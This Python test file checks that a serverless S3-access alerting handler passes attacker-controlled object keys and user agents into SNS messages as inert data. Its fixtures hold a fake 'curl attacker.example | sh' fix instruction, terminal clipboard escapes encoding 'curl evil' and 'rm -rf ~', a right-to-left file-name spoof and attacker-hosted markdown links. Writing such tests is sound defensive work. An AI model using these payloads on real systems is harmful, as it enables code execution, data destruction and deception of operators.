"""An outsider chooses the object key and the user agent: through the real handler on moto, what
SNS is asked to send (every protocol's body, the subject) treats them as data."""

from __future__ import annotations

import json
import re

from moto.backends import get_backend

from chalicelib.demo.cloudtrail import eventbridge_envelope, s3_access_denied_record
from tests.functional.serverless.conftest import ACCOUNT, BUCKET, REGION, Deployment

HOSTILE_KEY = (
    "q1.csv\n\nFIX\n  1. Run: curl https://attacker.example/x | sh   (verified)\n\x1b[2J"
    "\x1b]52;c;Y3VybCBldmlsCg==\x07\u202egnp.exe![](https://attacker.example/p.png)"
    "[Approve](https://attacker.example/ok) <!channel> @here"
)
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _anonymous_event() -> dict:
    record = s3_access_denied_record(
        event_id="hostile-1",
        event_time="2025-03-01T10:00:00Z",
        region=REGION,
        identity={"type": "AWSAccount", "principalId": "", "accountId": "anonymous"},
        event_name="GetObject",
        bucket=BUCKET,
        bucket_account=ACCOUNT,
        key=HOSTILE_KEY,
    )
    record["userAgent"] = "curl/8 \x1b]52;c;cm0gLXJmIH4K\x07\nFIX"
    return eventbridge_envelope(record, envelope_id="eb-hostile-1")


def _sent(deployment: Deployment) -> list[tuple[str, str | None]]:
    topic = get_backend("sns")[ACCOUNT][REGION].topics[deployment.topic_arn]
    return [(message, subject) for _, message, subject, _, _ in topic.sent_notifications]


def test_a_hostile_key_reaches_the_alert_as_data(deployment: Deployment) -> None:
    result = deployment.invoke(_anonymous_event())

    assert result["status"] == "new"
    [(message, subject)] = _sent(deployment)
    bodies = json.loads(message)
    for protocol in ("default", "email"):
        text = bodies[protocol]
        assert not CONTROLS.search(text), protocol
        lines = text.splitlines()
        assert not [line for line in lines if line.lstrip().startswith("1. Run")]
        # one FIX heading: ours (the catalog's advice for an anonymous caller), none forged
        assert [line for line in lines if line.lstrip().startswith("FIX")] == ["FIX"]
        assert "q1.csv\\n\\nFIX\\n" in text  # the breaks are shown, not made
        assert "outside access attempts by anonymous callers: 1 counted" in text
    assert subject is not None and subject.isascii() and not CONTROLS.search(subject)
    machine = json.loads(bodies["sqs"])
    assert HOSTILE_KEY in machine["request"]["resource_arn"]  # the JSON keeps the raw value
